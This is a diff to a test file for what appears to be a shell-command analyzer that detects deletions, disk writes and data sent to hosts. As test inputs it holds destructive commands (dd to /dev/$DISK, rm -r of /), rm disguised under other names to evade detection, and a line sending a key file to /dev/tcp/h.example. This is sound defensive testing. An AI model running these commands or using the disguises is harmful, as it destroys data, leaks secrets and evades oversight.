@@ -301,6 +301,8 @@ describe("an output that is not known leaves open what the program can do, and n
     ["rm $(find src -name '*.o')"],
     ["make -j$(nproc)"],
     ['dd if=a.img of="$OUT"', "destroys", "writes"],
+    ['dd if=a.img of="/dev/$DISK"', "destroys", "writes"],
+    ['dd if=a.img of="$TMP/a"', "writes"],
   ])("%s", (text, ...names) => expect(openIn(text)).toEqual(names));
 
   it("a literal output is known", () => expect(factsOf("rm -r $(echo /)").map(show)).toContain("rm deletes=/ recursive"));
@@ -360,6 +362,12 @@ check("variables whose value a program runs", [
 it("a variable that a program runs is not a reason to ask if its value is not known", () =>
   expect(factsOf('EDITOR="$EDITOR" git commit').some(({ unknown }) => unknown.program !== undefined)).toBe(false));
 
+check("programs under other names", [
+  ["cp /bin/rm x; ./x -r a", "rm via=x deletes=/p/a recursive"],
+  ["ln -s $(which rm) x; ./x a", "rm via=x deletes=/p/a"],
+  ["hash -p /bin/rm ls; ls a", "rm deletes=/p/a"],
+]);
+
 check("descriptors stay open", [
   ["exec 3<<< 'rm a'; bash <&3", "rm via=bash deletes=/p/a"],
   ["exec 3< <(echo rm a); source /dev/fd/3", "rm via=source deletes=/p/a"],
@@ -374,6 +382,8 @@ check("descriptors stay open", [
   ["exec > /dev/tcp/h.example/9; cat key", "cat reads=/p/key hosts=h.example sends=file"],
   ["exec > a.sh; echo rm a; exec > /dev/tty; sh a.sh", "rm via=sh deletes=/p/a"],
   ["(exec 3<<< 'rm a'); bash <&3", "bash"],
+  [". /dev/stdin <<< 'rm a'", "rm via=. deletes=/p/a stdin=literal"],
+  ["make -f - <<< $'all:\\n\\trm a'", "rm via=make deletes=/p/a"],
   ["cp /dev/stdin x <<< 'rm a'; sh x", "rm via=sh deletes=/p/a"],
   ["bash /dev/stdin <<< 'rm a'", "rm via=bash deletes=/p/a"],
   ["exec 3< a.txt; read -r x <&3; cat <<< x", "cat stdin=literal"],
